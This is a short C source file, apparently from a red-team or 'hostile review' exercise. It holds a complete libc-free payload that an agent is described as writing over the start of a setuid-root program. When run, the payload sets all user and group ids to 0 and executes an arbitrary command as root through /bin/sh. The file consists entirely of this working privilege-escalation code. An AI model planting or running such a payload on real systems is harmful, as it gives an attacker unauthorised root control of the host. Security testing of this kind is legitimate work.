/* ha21-payload.c (hostile review h-attack21): the program the agent puts
 * into a setuid-root file (ha21-setid.sh); no libc, small enough to fit
 * over the first bytes of a host setuid program. Run as PAYLOAD CMD: takes
 * every id to 0 (possible only with euid 0) and runs CMD with /bin/sh. */
#include <asm/unistd.h>
static long sc3(long n, long a, long b, long c)
{
	long r;
	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(n), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return r;
}
__attribute__((force_align_arg_pointer)) void _start_c(long *sp)
{
	char **argv = (char **)(sp + 1), **envp = argv + sp[0] + 1;
	char *sh[] = {"/bin/sh", "-c", argv[1], 0};
	sc3(__NR_setresgid, 0, 0, 0);
	sc3(__NR_setresuid, 0, 0, 0);
	sc3(__NR_execve, (long)sh[0], (long)sh, (long)envp);
	sc3(__NR_exit, 1, 0, 0);
}
__asm__(".globl _start\n_start:\n mov %rsp, %rdi\n call _start_c\n");
